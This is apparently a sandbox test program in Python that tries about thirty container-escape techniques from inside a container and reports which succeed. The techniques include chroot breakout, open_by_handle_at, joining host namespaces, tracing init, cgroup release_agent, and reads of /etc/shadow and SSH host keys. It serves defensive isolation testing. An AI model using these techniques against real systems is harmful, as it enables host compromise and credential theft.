"""Container escapes, each tried from inside; run there as a separate program.

Prints a JSON object: what each attempt won, empty if it was refused. Attempts change nothing on
the machine even where they succeed: files are opened and not written, clocks set to what they are.
"""

import ctypes
import errno
import glob
import json
import os
import signal
import socket
import stat
import struct
import sys
from collections.abc import Callable
from contextlib import suppress

LIBC = ctypes.CDLL(None, use_errno=True)
NEW_NS, NEW_USER, NEW_PID = 0x00020000, 0x10000000, 0x20000000
BIND, REMOUNT, REC = 4096, 32, 16384
X86 = os.uname().machine == "x86_64"
ATTEMPTS: list[Callable[[], str]] = []

DATA, SECRET, HOST_PID, KEY = (
    os.environ.get(name, "") for name in ("DATA", "SECRET", "PID", "KEY")
)


def register_attempt(function: Callable[[], str]) -> Callable[[], str]:
    """Register an attempt; its result is what it gained."""
    ATTEMPTS.append(function)
    return function


def call(name: str, *arguments: object) -> int:
    """A function of the C library; raises OSError."""
    result: int = getattr(LIBC, name)(*arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, f"{name}: {os.strerror(code)}")
    return result


def mount(source: str | None, target: str, kind: str | None, flags: int) -> None:
    arguments = [each.encode() if each else None for each in (source, target, kind)]
    call("mount", *arguments, ctypes.c_ulong(flags), None)


def opened(path: str, flags: int = os.O_RDONLY) -> str:
    """*path*, if it can be opened so; device files are never read or written."""
    os.close(os.open(path, flags | os.O_NONBLOCK | os.O_CLOEXEC))
    return path


def any_opened(paths: list[str], flags: int = os.O_RDONLY) -> str:
    for path in paths:
        with suppress(OSError):
            return opened(path, flags)
    return ""


def run_in_child(function: Callable[[], str]) -> str:
    """Result of *work* in a separate process: it may leave its namespaces."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        with suppress(BaseException):
            os.write(write, function().encode())
        os._exit(0)
    os.close(write)
    with os.fdopen(read) as file:
        won = file.read()
    os.waitpid(child, 0)
    return won


def as_namespace_root() -> None:
    """Become root of a new user namespace with its own mounts."""
    uid, gid = os.geteuid(), os.getegid()
    call("unshare", NEW_USER | NEW_NS)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def host_secret() -> str:
    """The secret of the machine, wherever it can be seen."""
    for root in ("", "/proc/1/root", "/proc/1/cwd", "/oldroot", "/mnt", "..", "../../../../.."):
        with suppress(OSError), open(f"{root}{DATA}/tokens.json") as file:
            return root + " " + file.read() if SECRET else ""
    return ""


@register_attempt
def a_descriptor_was_left_open() -> str:
    left = []
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            where = os.readlink(f"/proc/self/fd/{name}")
            if int(name) > 2 and not where.startswith("/proc/"):
                left.append(where)
    with suppress(OSError):
        if os.readlink("/proc/self/fd/0") != "/dev/null":
            left.append("stdin")
    return ",".join(left)


@register_attempt
def core_pattern_is_written() -> str:
    return opened("/proc/sys/kernel/core_pattern", os.O_WRONLY)


@register_attempt
def system_requests_are_sent() -> str:
    return opened("/proc/sysrq-trigger", os.O_WRONLY)


@register_attempt
def other_controls_in_proc_are_written() -> str:
    paths = [
        "/proc/sys/vm/drop_caches",
        "/proc/sys/kernel/modprobe",
        "/proc/irq/default_smp_affinity",
    ]
    return any_opened([*paths, *glob.glob("/proc/bus/pci/*/*")], os.O_WRONLY)


@register_attempt
def the_machine_s_passwords_are_read() -> str:
    return any_opened(["/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/sudoers"])


@register_attempt
def its_private_keys_are_read() -> str:
    return any_opened(glob.glob("/etc/ssh/ssh_host_*_key") + glob.glob("/etc/ssl/private/*"))


@register_attempt
def the_data_directory_is_read() -> str:
    return host_secret()


@register_attempt
def the_data_directory_is_listed() -> str:
    return ",".join(os.listdir(DATA))


@register_attempt
def the_machine_s_files_are_written() -> str:
    with open("/proc/self/mountinfo") as file:
        own = {line.split()[4] for line in file if " - tmpfs " in line}
    for directory in ("/usr", "/usr/bin", "/etc", "/var/lib", "/boot"):
        with suppress(OSError):
            created = f"{directory}/batholith-escape"
            os.mkdir(created)
            os.rmdir(created)
            if directory not in own:
                return directory
    return ""


@register_attempt
def a_read_only_mount_becomes_writable() -> str:
    mount(None, "/usr", None, BIND | REMOUNT)
    return "/usr"


@register_attempt
def a_cover_is_taken_off() -> str:
    call("umount2", DATA.encode(), 2)
    return host_secret()


@register_attempt
def a_cover_is_unmounted_in_a_new_user_namespace() -> str:
    def work() -> str:
        as_namespace_root()
        for path in (DATA, "/proc/sys", "/proc", "/tmp", "/"):
            with suppress(OSError):
                call("umount2", path.encode(), 2)
        if won := host_secret():
            return won
        with suppress(OSError):
            mount(None, "/usr", None, BIND | REMOUNT)
            return "/usr is writable"
        return ""

    return run_in_child(work)


@register_attempt
def a_fresh_proc_is_written() -> str:
    def work() -> str:
        as_namespace_root()
        call("unshare", NEW_PID)

        def below() -> str:
            mount("proc", "/proc", "proc", 0)
            return opened("/proc/sys/kernel/core_pattern", os.O_WRONLY)

        return run_in_child(below)

    return run_in_child(work)


@register_attempt
def a_root_in_the_root_is_left() -> str:
    def work() -> str:
        here = os.open("/", os.O_RDONLY)
        os.chroot("/tmp")
        os.fchdir(here)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
        return host_secret()

    return run_in_child(work)


@register_attempt
def another_process_s_root_leads_out() -> str:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("root", "cwd"):
            with suppress(OSError), open(f"/proc/{pid}/{link}{DATA}/tokens.json") as file:
                return f"{pid} {file.read()}"
    return ""


@register_attempt
def the_program_around_it_is_written() -> str:
    """Its interpreter on the machine, by way of /proc."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        with suppress(OSError):
            stored = os.open(f"/proc/{pid}/exe", os.O_PATH)
            with suppress(OSError):
                return opened(f"/proc/self/fd/{stored}", os.O_WRONLY)
            if (
                not os.fstatvfs(stored).f_flag & os.ST_RDONLY
                and os.fstat(stored).st_uid == os.geteuid()
            ):
                return f"/proc/{pid}/exe can be written once it ended"
    return ""


@register_attempt
def a_disk_is_opened() -> str:
    for device in (os.stat("/").st_dev, os.stat("/usr").st_dev, os.makedev(8, 0), os.makedev(1, 1)):
        with suppress(OSError):
            os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, device)
            return opened("/tmp/disk")
    return any_opened(
        ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg", "/dev/port"]
    )


@register_attempt
def the_init_is_traced() -> str:
    seize = 0x4206
    return run_in_child(lambda: str(call("ptrace", seize, 1, None, None)) + " traced")


@register_attempt
def the_init_s_memory_is_read() -> str:
    return any_opened(["/proc/1/mem", "/proc/1/environ"])


@register_attempt
def processes_of_the_machine_are_seen() -> str:
    with suppress(OSError), open(f"/proc/{HOST_PID}/cmdline", "rb") as file:
        if b"pytest" in file.read():
            return HOST_PID
    return ""


@register_attempt
def processes_of_the_machine_are_signalled() -> str:
    os.kill(int(HOST_PID), 0)
    with suppress(OSError), open(f"/proc/{HOST_PID}/status") as file:
        return HOST_PID if "pytest" in file.read() else ""
    return HOST_PID


@register_attempt
def a_namespace_of_the_machine_is_joined() -> str:
    def work() -> str:
        for pid in sorted({"1", HOST_PID}):
            for kind in ("mnt", "pid", "user"):
                with suppress(OSError):
                    before = os.readlink(f"/proc/self/ns/{kind}")
                    there = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                    call("setns", there, 0)
                    if kind == "user" or os.readlink(f"/proc/self/ns/{kind}") != before:
                        return f"{pid} {kind}"
        return ""

    return run_in_child(work)


@register_attempt
def a_kernel_module_is_loaded() -> str:
    number = 313 if X86 else 273
    stored = os.open("/dev/null", os.O_RDONLY)
    try:
        call("syscall", number, stored, b"", 0)
    except OSError as error:
        # With the right to load modules the error is that the file is none.
        return "" if error.errno in (errno.EPERM, errno.EACCES, errno.ENOSYS) else str(error)
    return "loaded"


@register_attempt
def the_clock_is_set() -> str:
    import time

    time.clock_settime(time.CLOCK_REALTIME, time.clock_gettime(time.CLOCK_REALTIME))
    return "set"


@register_attempt
def the_host_name_is_changed() -> str:
    name = socket.gethostname().encode()
    call("sethostname", name, len(name))
    return ""  # its own alone: the caller compares the machine's


CAPABILITIES = {
    "SYS_ADMIN": 21,
    "SYS_PTRACE": 19,
    "SYS_MODULE": 16,
    "DAC_READ_SEARCH": 2,
    "BPF": 39,
}


def own_status() -> dict[str, str]:
    with open("/proc/self/status") as file:
        return dict(line.split(":", 1) for line in file)


@register_attempt
def rights_are_regained() -> str:
    reported = own_status()
    stored = int(reported["CapPrm"], 16) | int(reported["CapAmb"], 16)
    won = [name for name, number in CAPABILITIES.items() if stored >> number & 1]
    return ",".join(won + ([] if reported["NoNewPrivs"].strip() == "1" else ["setuid programs"]))


@register_attempt
def rights_are_within_reach() -> str:
    bounds = int(own_status()["CapBnd"], 16)
    return ",".join(name for name, number in CAPABILITIES.items() if bounds >> number & 1)


@register_attempt
def a_file_is_opened_by_its_number() -> str:
    """open_by_handle_at, which knows no roots: the host's root directory is inode 2."""
    number = 304 if X86 else 265
    handle = struct.pack("IiIIQ", 8, 1, 2, 0, 0)
    base = os.open("/usr", os.O_RDONLY)
    stored = call("syscall", number, base, handle, os.O_RDONLY)
    return ",".join(os.listdir(stored))


@register_attempt
def a_control_group_runs_a_program() -> str:
    return any_opened(glob.glob("/sys/fs/cgroup/*/release_agent"), os.O_WRONLY)


@register_attempt
def the_kernel_s_objects_are_written() -> str:
    paths = ["/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run"]
    return any_opened([*paths, *glob.glob("/sys/class/net/*/ifalias")], os.O_WRONLY)


@register_attempt
def a_key_of_the_session_is_read() -> str:
    """A keyring that was inherited: session keys of who started the agent."""
    search, session = 10, -3
    number = 250 if X86 else 219
    kind, name = b"user", KEY.encode()
    return f"key {call('syscall', number, search, session, kind, name, 0)}" if KEY else ""


def main() -> None:
    """Try everything."""
    signal.alarm(60)
    won = {}
    for function in ATTEMPTS:
        try:
            won[function.__name__] = function()
        except OSError:
            won[function.__name__] = ""
    sys.stdout.write(f"{json.dumps(won)}\n")


if __name__ == "__main__":
    main()
